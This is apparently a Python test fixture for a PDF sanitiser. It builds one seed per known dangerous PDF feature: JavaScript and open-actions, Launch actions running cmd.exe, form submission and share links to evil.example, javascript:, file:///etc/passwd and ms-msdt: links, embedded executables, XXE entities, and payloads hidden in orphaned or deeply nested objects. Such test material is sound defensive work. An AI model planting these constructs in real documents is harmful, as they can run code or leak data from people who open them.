"""Papers that do more than a paper may: one seed for each way we know of, written in few words."""

from __future__ import annotations

from dataclasses import dataclass, field

from tests.pdfs.paper import (
    CATALOG,
    FIELD,
    NOTE,
    OUTLINE,
    PAGE,
    Objects,
    clean_objects,
    extended,
    stream,
)

GIST = 95  # the object number of a gist that nothing leads to
DEPTH = 40


@dataclass(frozen=True)
class Seed:
    """What is added to an innocent paper. `gist` is the dictionary that must never come in."""

    name: str
    gist: bytes = b""
    catalog: bytes = b""
    page: bytes = b""
    widget: bytes = b""
    outline: bytes = b""
    note: bytes = b""
    objects: Objects = field(default_factory=dict)

    def written(self) -> Objects:
        paper = clean_objects()
        for number, entries in (
            (CATALOG, self.catalog),
            (PAGE, self.page),
            (FIELD, self.widget),
            (OUTLINE, self.outline),
        ):
            paper[number] = extended(paper[number], entries)
        return paper | ({NOTE: self.note} if self.note else {}) | self.objects

    def orphaned(self) -> Objects:
        """Nothing leads to the gist, but it lies in the file. Libraries drop it when they save."""
        return clean_objects() | {GIST: self.gist}

    def nested(self) -> Objects:
        """The gist at the bottom of forty lists, under a name of our own."""
        paper = clean_objects()
        private = b"/Privat " + b"[" * DEPTH + self.gist + b"]" * DEPTH
        paper[CATALOG] = extended(paper[CATALOG], private)
        return paper


SCRIPT = b"<</S /JavaScript /JS (app.alert\\(1\\))>>"
FILESPEC = b"<</Type /Filespec /F (brev.exe) /UF (brev.exe) /EF <</F 30 0 R>>>>"
CARRIED = {30: stream(b"/Type /EmbeddedFile", b"MZ")}

ACTIONS = {
    "script": SCRIPT,
    "script in a stream": b"<</S /JavaScript /JS 30 0 R>>",
    "script, typed": b"<</Type /Action /S /JavaScript /JS (1)>>",
    "launch": b"<</S /Launch /F (cmd.exe)>>",
    "launch on Windows": b"<</S /Launch /Win <</F (cmd.exe) /P (/c calc)>>>>",
    "go to another file": b"<</S /GoToR /F (brev.pdf) /D [0 /Fit]>>",
    "go to a share": b"<</S /GoToR /F (\\\\\\\\evil.example\\\\share) /D [0 /Fit]>>",
    "go to an embedded file": b"<</S /GoToE /T <</R /C /N (x)>>>>",
    "submit the form": b"<</S /SubmitForm /F (https://evil.example/) /Flags 4>>",
    "import data": b"<</S /ImportData /F (data.fdf)>>",
    "rendition": b"<</S /Rendition /OP 0>>",
    "movie action": b"<</S /Movie /T (film)>>",
    "sound action": b"<</S /Sound /Sound 30 0 R>>",
    "rich media action": b"<</S /RichMediaExecute /CMD <</C (play)>>>>",
    "3D view": b"<</S /GoTo3DView /V 0>>",
    "script link": b"<</S /URI /URI (javascript:alert\\(1\\))>>",
    "script link, spaced": b"<</S /URI /URI (\\t java\\nscript:alert\\(1\\))>>",
    "script link, UTF-16": b"<</S /URI /URI <FEFF006A006100760061007300630072006900700074003A>>>",
    "file link": b"<</S /URI /URI (file:///etc/passwd)>>",
    "data link": b"<</S /URI /URI (data:text/html,hej)>>",
    "share link": b"<</S /URI /URI (\\\\\\\\evil.example\\\\share)>>",
    "link without a scheme": b"<</S /URI /URI (//evil.example/)>>",
    "program's own link": b"<</S /URI /URI (ms-msdt:/id)>>",
    "print at once": b"<</S /Named /N /Print>>",
    "unheard-of action": b"<</S /Something>>",
    "action without a name": b"<</Type /Action /S (JavaScript)>>",
    "script after a page": b"<</S /GoTo /D [3 0 R /Fit] /Next <</S /JavaScript /JS (1)>>>>",
    "scripts after a page": b"<</S /GoTo /D [3 0 R /Fit] /Next [<</S /JavaScript /JS (1)>>]>>",
}

NOTES = {
    "attached file": b"/Subtype /FileAttachment /FS " + FILESPEC,
    "rich media": b"/Subtype /RichMedia /RichMediaContent <</Assets <<>>>>",
    "screen": b"/Subtype /Screen /MK <<>>",
    "film": b"/Subtype /Movie /Movie <</F (film.avi)>>",
    "sound": b"/Subtype /Sound /Sound 30 0 R",
    "3D": b"/Subtype /3D /3DD 30 0 R",
    "projection": b"/Subtype /Projection",
    "unheard-of note": b"/Subtype /Something",
}

IN_CATALOG = {
    "embedded files": b"/Names <</EmbeddedFiles <</Names [(a) " + FILESPEC + b"]>>>>",
    "named scripts": b"/Names <</JavaScript <</Names [(a) " + SCRIPT + b"]>>>>",
    "named scripts, one level down": b"/Names <</JavaScript <</Kids [<</Names [(a) 31 0 R]>>]>>>>",
    "associated files": b"/AF [" + FILESPEC + b"]",
    "portfolio": b"/Collection <</View /D>>",
    "renditions": b"/Names <</Renditions <</Names [(a) <</S /MR>>]>>>>",
    "slide show": b"/Names <</AlternatePresentations <</Names []>>>>",
    "required script engine": b"/Requirements [<</S /EnableJavaScripts>>]",
    "script on closing": b"/AA <</WC " + SCRIPT + b">>",
    "page on printing": b"/AA <</WP <</S /GoTo /D [3 0 R /Fit]>>>>",
    "base for all links": b"/URI <</Base (file:///C:/)>>",
}

STREAMS = {
    "content from a file": stream(b"/F (hemligt.txt)", b""),
    "content from the net": stream(b"/F <</FS /URL /F (http://evil.example/)>>", b""),
    "outer filter": stream(b"/FFilter /FlateDecode", b""),
    "outer filter's settings": stream(b"/FDecodeParms <<>>", b""),
    "page of another file": stream(
        b"/Type /XObject /Subtype /Form /BBox [0 0 1 1] /Ref <</F (annan.pdf) /Page 0>>", b""
    ),
    "prepress picture": stream(b"/Subtype /Form /BBox [0 0 1 1] /OPI <</2.0 <<>>>>", b""),
    "PostScript": stream(b"/Type /XObject /Subtype /PS", b"showpage"),
    "PostScript in a form": stream(b"/Subtype /Form /Subtype2 /PS /BBox [0 0 1 1]", b""),
    "embedded file alone": stream(b"/Type /EmbeddedFile", b"MZ"),
    "unheard-of filter": stream(b"/Filter /SomethingDecode", b"x"),
    "3D model": stream(b"/Type /3D /Subtype /U3D", b"U3D"),
    "XML with entities": stream(
        b"/Type /Metadata /Subtype /XML", b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///">]><x>&a;</x>'
    ),
}


# Single words, in dictionaries that no viewer is meant to read: one that repairs or guesses might.
STRAY = [
    *(b"<</S /%s>>" % word for word in b"JavaScript Launch GoToR GoToE GoTo3DView SubmitForm "
      b"ImportData Rendition Movie Sound RichMediaExecute".split()),
    *(b"<</Subtype /%s>>" % word for word in b"FileAttachment RichMedia Screen Movie Sound 3D U3D "
      b"PRC PS".split()),
    *(b"<</Type /%s>>" % word for word in b"EmbeddedFile Filespec Rendition MediaClip".split()),
    *(b"<</%s 1>>" % word for word in b"JS JavaScript AA XFA EF AF EmbeddedFiles Collection "
      b"Renditions AlternatePresentations RichMediaContent RichMediaSettings 3DD "
      b"Requirements".split()),
]  # fmt: skip

XML_FORM = b"<</XFA [(template) 30 0 R]>>"


def with_xml_form() -> bytes:
    return clean_objects()[CATALOG].replace(b"/DA ", b"/XFA 30 0 R /DA ")


def seeds() -> list[Seed]:
    """All of them; each breaks one rule in one place."""
    script = {30: stream(b"", b"app.alert(1)"), 31: SCRIPT}
    on_event = b"/AA <</%s " + SCRIPT + b">>"
    links = {name: b"/Subtype /Link /A " + action for name, action in ACTIONS.items()}
    return [
        *(_note(f"link: {name}", gist, script) for name, gist in links.items()),
        *(_note(f"note: {name}", gist, CARRIED) for name, gist in NOTES.items()),
        *(_file(name, gist, script | CARRIED) for name, gist in IN_CATALOG.items()),
        *(
            _file(f"stream: {name}", b"/Privat 40 0 R", {40: body})
            for name, body in STREAMS.items()
        ),
        *(_file(f"stray: {gist.decode()}", b"/Privat " + gist, {}) for gist in STRAY),
        Seed("form in XML", gist=XML_FORM, objects={CATALOG: with_xml_form()} | script),
        _file("opening: script", b"/OpenAction " + SCRIPT, {}),
        _file("opening: address", b"/OpenAction <</S /URI /URI (https://evil.example/)>>", {}),
        _file("opening: launch", b"/OpenAction <</S /Launch /F (cmd.exe)>>", {}),
        _file("opening: print", b"/OpenAction <</S /Named /N /Print>>", {}),
        Seed("opening: elsewhere", catalog=b"/OpenAction 31 0 R", objects=script),
        Seed("page: script on opening", page=on_event % b"O"),
        Seed("field: script on typing", widget=on_event % b"K"),
        Seed("field: script on calculating", widget=on_event % b"C"),
        Seed("field: button that runs", widget=b"/A " + SCRIPT),
        Seed(
            "field: button that sends", widget=b"/A <</S /SubmitForm /F (https://evil.example/)>>"
        ),
        Seed("outline: script after it", outline=b"/Next " + SCRIPT),
        _note("note: script on touching", b"/Subtype /Square " + on_event % b"E", {}),
        _note("link: address kept aside", b"/Subtype /Link /PA <</S /URI /URI (a:b)>>", {}),
    ]


def _note(name: str, gist: bytes, objects: Objects) -> Seed:
    note = b"<</Type /Annot /Rect [300 600 320 620] %s>>" % gist
    return Seed(name, gist=note, note=note, objects=objects)


def _file(name: str, entries: bytes, objects: Objects) -> Seed:
    """What stands in the catalogue; a stream that it leads to is the gist itself, and has none."""
    gist = b"" if b"/Privat" in entries else b"<<%s>>" % entries
    return Seed(name, gist=gist, catalog=entries, objects=objects)
